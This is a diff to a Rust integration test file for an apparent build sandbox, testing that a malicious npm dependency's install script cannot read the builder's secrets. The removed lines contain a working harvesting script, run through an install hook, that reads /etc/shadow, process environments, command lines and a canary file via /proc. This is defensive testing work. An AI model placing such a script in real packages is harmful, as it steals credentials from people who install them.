@@ -108,6 +108,7 @@ use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
 
 use common::functions::{base_layout, files_holding, registry_with_bases, NODEJS, PYTHON};
 use common::git_server::GitDaemon;
+use common::hostile::{evil_npm_package, FileServer};
 use common::s3_server::{isolate_aws_env, S3Server, S3Setup};
 use common::{gzip, tar_of, walk, Registry};
 
@@ -543,64 +544,6 @@ fn base_layer_digests(runtime: &str) -> Vec<String> {
         .iter()
         .map(|l| l["digest"].as_str().unwrap().to_string())
         .collect()
-}
-
-// === A file server ===
-
-/// An HTTP server on 127.0.0.1 answering `GET <path>` with fixed bytes, as often as asked, on
-/// a thread of its own (404 for other paths).
-struct FileServer {
-    port: u16,
-}
-
-impl FileServer {
-    fn start(files: HashMap<String, Vec<u8>>) -> FileServer {
-        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-        let port = listener.local_addr().unwrap().port();
-        let files = Arc::new(files);
-        thread::spawn(move || {
-            for stream in listener.incoming().flatten() {
-                let files = files.clone();
-                thread::spawn(move || serve(stream, &files));
-            }
-        });
-        FileServer { port }
-    }
-
-    fn url(&self, path: &str) -> String {
-        format!("http://127.0.0.1:{}{path}", self.port)
-    }
-}
-
-fn serve(mut stream: TcpStream, files: &HashMap<String, Vec<u8>>) {
-    let mut head = Vec::new();
-    let mut buf = [0u8; 4096];
-    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
-        match stream.read(&mut buf) {
-            Ok(0) | Err(_) => return,
-            Ok(n) => head.extend_from_slice(&buf[..n]),
-        }
-        if head.len() > 64 * 1024 {
-            return;
-        }
-    }
-    let head = String::from_utf8_lossy(&head);
-    let path = head.split_whitespace().nth(1).unwrap_or("/");
-    let path = path.split('?').next().unwrap_or(path);
-    let _ = match files.get(path) {
-        Some(body) => stream
-            .write_all(
-                format!(
-                    "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\
-                     Content-Length: {}\r\nConnection: close\r\n\r\n",
-                    body.len()
-                )
-                .as_bytes(),
-            )
-            .and_then(|()| stream.write_all(body)),
-        None => stream
-            .write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"),
-    };
 }
 
 // === Archives written as an attacker would ===
@@ -1354,60 +1297,14 @@ fn python_that_does_not_compile_is_refused_with_the_runtimes_own_message() {
     bench.finish();
 }
 
-/// steal.js: an npm install script that takes what it can and reports it. `__CANARY__` is
-/// replaced by the canary file's path (a path; the script holds no canary string).
-const STEAL_JS: &str = r#"'use strict';
-const fs = require('fs');
-const path = require('path');
-const CANARY = __CANARY__;
-function attempt(f) {
-  try {
-    return { ok: true, value: f() };
-  } catch (e) {
-    return { ok: false, error: String(e.code || e.message) };
-  }
-}
-const read = (p) => attempt(() => fs.readFileSync(p).toString('latin1'));
-const pids = attempt(() => fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n)));
-const perPid = {};
-for (const pid of pids.ok ? pids.value : []) {
-  perPid[pid] = {
-    environ: read(`/proc/${pid}/environ`),
-    cmdline: read(`/proc/${pid}/cmdline`),
-    canaryThroughRoot: read(`/proc/${pid}/root${CANARY}`),
-  };
-}
-const report = {
-  uid: process.getuid(),
-  gid: process.getgid(),
-  pid: process.pid,
-  canary: read(CANARY),
-  canaryDir: attempt(() => fs.readdirSync(path.dirname(CANARY))),
-  canaryThroughPid1Root: read('/proc/1/root' + CANARY),
-  pid1Environ: read('/proc/1/environ'),
-  pids,
-  perPid,
-  env: process.env,
-  shadow: read('/etc/shadow'),
-  disks: { vda: fs.existsSync('/dev/vda'), sda: fs.existsSync('/dev/sda') },
-  dev: attempt(() => fs.readdirSync('/dev')),
-};
-fs.writeFileSync(path.join(__dirname, 'report.json'), JSON.stringify(report, null, 1));
-"#;
 
 #[test]
 fn a_dependencys_install_script_gets_nothing_of_the_builder() {
     let bench = Bench::new(&[NODEJS]);
-    let steal = STEAL_JS.replace(
-        "__CANARY__",
-        &serde_json::to_string(bench.canaries.file_path()).unwrap(),
-    );
-    let package = r#"{"name":"evil","version":"1.0.0","scripts":{"install":"node steal.js"}}"#;
-    let tarball = gzip(&tar_of(&[
-        ("package/package.json", package.as_bytes()),
-        ("package/steal.js", steal.as_bytes()),
-    ]));
-    let server = FileServer::start(HashMap::from([("/evil-1.0.0.tgz".to_string(), tarball)]));
+    let server = FileServer::start(HashMap::from([(
+        "/evil-1.0.0.tgz".to_string(),
+        evil_npm_package(bench.canaries.file_path(), &[]),
+    )]));
     let manifest = serde_json::json!({
         "name": "fn",
         "version": "1.0.0",
